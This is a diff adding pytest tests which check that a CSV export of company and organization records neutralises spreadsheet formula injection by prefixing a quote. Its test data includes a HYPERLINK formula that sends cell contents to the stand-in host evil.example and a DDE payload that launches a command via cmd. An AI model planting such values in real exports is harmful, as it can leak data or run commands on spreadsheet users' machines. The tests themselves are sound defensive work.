@@ -80,3 +80,59 @@ def test_an_error_message_quoting_hostile_data_stays_one_paragraph(workspace, sa
     assert result.stderr.count("\n") == 1, result.stderr
     assert "\x1b" not in result.stderr
     assert "found '8\\n\\x1b[31mError: forged'" in result.stderr, result.stderr
+
+
+# ---- 2. spreadsheet formulas ------------------------------------------------------------------------
+
+FORMULAS = {
+    '=HYPERLINK("https://evil.example/?"&A1,"Click")': '\'=HYPERLINK("https://evil.example/?"&A1,"Click")',
+    "@SUM(1+1)*cmd|' /C calc'!A0": "'@SUM(1+1)*cmd|' /C calc'!A0",
+    "+1+1": "'+1+1",
+    "-2+3": "'-2+3",
+    "\tTabbed": "'\tTabbed",
+    "\uff1dFULLWIDTH()": "'\uff1dFULLWIDTH()",
+    "Plain Name": "Plain Name",
+}
+
+
+def _create_company(sandbox, name: str, number: str) -> int:
+    import httpx
+
+    with httpx.Client(base_url=sandbox.base_url, headers=sandbox.credentials.headers(), trust_env=False) as h:
+        response = h.post("Companies", json={"companyName": name, "companyNumber": number, "companyType": 1})
+        assert response.status_code == 200, response.text
+        return int(response.json()["itemId"])
+
+
+def test_companies_export_neutralises_formula_cells(workspace, sandbox) -> None:
+    created = {
+        _create_company(sandbox, name, "-5" if name == "Plain Name" else f"=N{i}"): name
+        for i, name in enumerate(FORMULAS)
+    }
+    out = workspace.root / "organizations-import.csv"
+    result = workspace.run("companies", "export", "--out", str(out))
+    assert result.code == 0, result
+    rows = list(csv.reader(io.StringIO(out.read_text(encoding="utf-8"), newline="")))
+    exported = {int(r[2]): (r[0], r[1]) for r in rows[1:] if int(r[2]) in created}
+    assert exported == {
+        company_id: (FORMULAS[name], "-5" if name == "Plain Name" else f"'=N{i}")
+        for i, (company_id, name) in enumerate(created.items())
+    }
+    for name, number in exported.values():  # what a spreadsheet would run: nothing
+        assert not name.startswith(("=", "+", "-", "@", "\t", "\r", "\uff1d")), name
+        assert number == "-5" or number.startswith("'"), number
+
+
+def test_an_exported_bundle_neutralises_formulas_and_reads_back_unchanged(tmp_path) -> None:
+    from providers.cloudmore.bundle import read_bundle
+    from providers.cloudmore.bundle_writer import write_bundle
+    from providers.cloudmore.source import example_bundle_dir
+
+    data = read_bundle(example_bundle_dir("2026-10-07"))
+    hostile = data.organizations[0].model_copy(update={"name": "=HYPERLINK(A1)", "customer_number": "@x"})
+    data = data.model_copy(update={"organizations": (hostile, *data.organizations[1:])})
+    write_bundle(data, tmp_path / "bundle")
+    text = (tmp_path / "bundle" / "organizations.csv").read_text(encoding="utf-8")
+    assert "ORG-1001,'=HYPERLINK(A1),'@x," in text
+    again = read_bundle(tmp_path / "bundle")
+    assert again.organizations == data.organizations
